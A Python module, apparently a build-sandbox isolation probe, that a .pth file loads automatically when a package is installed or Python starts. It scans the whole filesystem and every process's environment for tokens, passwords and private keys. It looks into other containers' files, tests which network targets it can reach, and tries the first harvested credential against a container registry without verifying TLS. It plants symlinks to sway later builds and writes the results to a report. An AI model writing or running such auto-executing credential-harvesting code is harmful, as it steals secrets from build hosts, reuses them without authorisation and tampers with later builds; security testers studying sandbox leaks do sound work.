"""What a package finds in the build that installs it, or in whatever starts Python afterwards: a .pth file imports this module."""

import http.client
import json
import os
import re
import socket
import ssl

RESULT = "/opt/codegen/probe.json"
TARGETS = json.loads("""@TARGETS@""")
REGISTRY = "@REGISTRY@"
LINKS = json.loads("""@LINKS@""")

CREDENTIAL = re.compile(rb'"(?:auth|password|token|identitytoken)"\s*:\s*"([^"]+)"|eyJhbGciOi[\w.-]+|BEGIN [A-Z ]*PRIVATE KEY')
SUSPICIOUS = re.compile(rb"(?i)[^=]*(?:secret|token|passw|credential|api_?key)[^=]*=.+")
SYSTEM = {"/proc", "/sys", "/usr", "/opt/codegen"}
LARGEST = 1 << 20


def files():
    """Files anywhere, mounted ones included, that look like credentials."""
    for folder, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in SYSTEM]
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) <= LARGEST:
                    with open(path, "rb") as file:
                        found = CREDENTIAL.search(file.read())
                    if found:
                        yield path, (found[1] or found[0]).decode()
            except OSError:
                pass


def environment():
    """Variables of every process, and what other containers' processes show of their files."""
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{process}/environ", "rb") as file:
                variables = file.read().split(b"\0")
            yield from (variable.decode() for variable in variables if SUSPICIOUS.fullmatch(variable))
            credentials = os.path.join("/proc", process, "root", "credentials")
            if os.path.exists(credentials):
                yield credentials
        except OSError:
            pass


def reached():
    """Which addresses take a connection."""
    for name, (host, port) in TARGETS.items():
        try:
            socket.create_connection((host, port), 2).close()
            yield name
        except OSError:
            pass


def registry(login):
    """The status with which the registry answers: 401 where it knows nobody."""
    headers = {"Authorization": f"Basic {login}"} if login else {}
    try:
        connection = http.client.HTTPSConnection(REGISTRY, timeout=5, context=ssl._create_unverified_context())
        connection.request("GET", "/v2/", headers=headers)
        return connection.getresponse().status
    except OSError as error:
        return str(error)


def plant():
    """Links where whoever comes next may look for files."""
    for path, target in LINKS:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if os.path.lexists(path):
            os.remove(path)
        os.symlink(target, path)
        # What follows the link here must not fail over it.
        if not os.path.exists(os.path.dirname(target)):
            os.makedirs(os.path.dirname(target))


if os.path.isdir("/out") and not os.path.exists(RESULT):
    found = list(files())
    report = {
        "files": sorted(path for path, _ in found),
        "environment": sorted(environment()),
        "reached": sorted(reached()),
        "registry": registry(next((login for _, login in found), None)),
        "user": os.getuid(),
    }
    with open(RESULT, "w") as file:
        json.dump(report, file)
    plant()
